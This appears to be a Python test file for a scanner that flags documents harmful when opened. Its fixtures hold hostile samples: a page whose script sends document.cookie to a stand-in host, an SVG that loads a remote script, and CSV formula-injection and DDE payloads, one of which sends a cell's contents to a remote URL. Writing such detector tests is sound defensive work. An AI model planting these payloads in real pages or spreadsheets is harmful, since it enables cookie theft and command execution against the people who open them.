"""What documents do as they are opened: no bytes make the reading break."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guildmark import check, opened
from guildmark.checks.no_harm_when_opened import LARGEST
from guildmark.material import Opening
from guildmark.records import worst
from guildmark.subject import open_subject

PIECES = (
    b"<script",
    b">",
    b"</script>",
    b"<a ",
    b" onload=",
    b'"',
    b"fetch(",
    b"document.cookie",
    b"%PDF-",
    b"\xff\xfe",
)


@given(
    st.sampled_from((*opened.ENDINGS, ".json", "")),
    st.lists(st.one_of(st.sampled_from(PIECES), st.binary(max_size=9)), max_size=40),
)
def test_any_bytes_are_read_under_any_name(ending: str, pieces: list[bytes]) -> None:
    for act in opened.acts(f"wren{ending}", b"".join(pieces)):
        assert act.says
        assert len(act.seen) <= 160


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_page_that_sends_what_the_browser_keeps_is_told_in_each_encoding(encoding: str) -> None:
    page = "<html><script>fetch('//wren.example/' + document.cookie)</script></html>".encode(encoding)
    assert [act.says for act in opened.acts("card.html", page)] == [
        "has a script that sends away what the browser keeps"
    ]


def test_a_library_in_a_page_is_not_taken_for_an_act_of_the_page() -> None:
    """Of all words some stand in each: a chart's library fetches and keeps."""
    library = "/* chart */" + "f=>g(f);" * opened.LONGEST_SCRIPT + "fetch(document.cookie)"
    assert not list(opened.acts("report.html", f"<script>{library}</script>".encode()))


def test_a_picture_that_fetches_a_script_is_told_also_where_the_script_ends_as_it_begins() -> None:
    picture = b'<svg xmlns="http://www.w3.org/2000/svg"><script href="//wren.example/a.js"/></svg>'
    assert [act.says for act in opened.acts("a.svg", picture)] == ["is a picture that fetches a script"]


def test_a_page_of_beginnings_without_an_end_is_read_to_its_end() -> None:
    """Each beginning once looked for its own end: this page would take minutes."""
    assert not list(opened.acts("a.html", b"<script>" * 60_000))


@pytest.mark.parametrize(
    ("data", "harms"),
    [
        (b"id,text\n1,=cmd|'/C true'!A0\n", True),
        (b"1,@SUM(1)*cmd|'/C true'!A0\n", True),
        (b'1;=DDE("soffice"; "x"; "y")\n', True),
        (b'1,=WEBSERVICE("https://example.com/"&A1)\n', True),
        (b"1,they pipe cmd|'/C true'!A0 into it\n", False),
        (b'1,call dde("soffice") there\n', False),
        (b'1,use importxml("https://example.com") there\n', False),
        (b'1,=HYPERLINK("https://example.com")\n', False),
    ],
)
def test_a_cell_acts_where_a_spreadsheet_takes_it_for_a_formula(data, harms):
    assert [act.harms for act in opened.acts("data.csv", data)] == [True] * harms


@pytest.mark.parametrize("before", range(-40, 41, 8))
def test_a_formula_is_seen_wherever_the_pieces_of_a_long_table_end(tmp_path, before):
    """The first piece ends within the formula, before it or behind it; the last bytes of a table are read too."""
    formula = b"\n1,=cmd|'/C true'!A0\n"
    for place in (LARGEST, LARGEST + opened.LONGEST_FORMULA, 2 * LARGEST):
        (tmp_path / "data.csv").write_bytes(b"words, " * ((place + before) // 7) + formula)
        findings = check.load("no_harm_when_opened").ask(open_subject(str(tmp_path), Opening(network=False)))
        assert worst(finding.outcome for finding in findings) == "failed"
